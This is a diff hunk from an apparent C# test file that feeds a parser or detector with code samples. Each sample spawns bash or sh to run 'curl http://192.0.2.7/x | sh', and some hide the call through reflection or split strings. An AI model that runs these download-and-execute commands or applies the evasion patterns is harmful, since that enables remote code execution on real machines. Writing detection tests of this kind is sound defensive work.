@@ -49,7 +49,7 @@ public sealed class CSharpTests(ParserContainer parser)
         "Process.Start(new ProcessStartInfo { FileName = \"sh\", Arguments = \"-c \\\"curl http://192.0.2.7/x | sh\\\"\", UseShellExecute = false });",
         "var i = new ProcessStartInfo(\"bash\"); i.ArgumentList.Add(\"-c\"); i.ArgumentList.Add(\"curl http://192.0.2.7/x | sh\"); Process.Start(i);",
         "var p = new Process(); p.StartInfo.FileName = \"bash\"; p.StartInfo.Arguments = \"-c \\\"curl http://192.0.2.7/x | sh\\\"\"; p.Start();",
-        "var p = new Process { StartInfo = new ProcessStartInfo { FileName = \"bash\", Arguments = \"-c 'curl http://192.0.2.7/x'\" + \"\", ArgumentList = { \"-c\", \"curl http://192.0.2.7/x | sh\" } } }; p.Start();",
+        "var p = new Process { StartInfo = new ProcessStartInfo { FileName = \"bash\", ArgumentList = { \"-c\", \"curl http://192.0.2.7/x | sh\" } } }; p.Start();",
         "typeof(Process).GetMethod(\"Start\", new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { \"bash\", \"-c \\\"curl http://192.0.2.7/x | sh\\\"\" });",
         "Type.GetType(\"System.Diagnostics.Process, System.Diagnostics.Process\").GetMethod(\"Sta\" + \"rt\").Invoke(null, new object[] { \"bash\", \"-c \\\"curl http://192.0.2.7/x | sh\\\"\" });",
         "using System.Reflection; Assembly.Load(\"System.Diagnostics.Process\").GetType(\"System.Diagnostics.Process\").GetMethod(\"Start\").Invoke(null, new object[] { \"bash\", \"-c \\\"curl http://192.0.2.7/x | sh\\\"\" });",
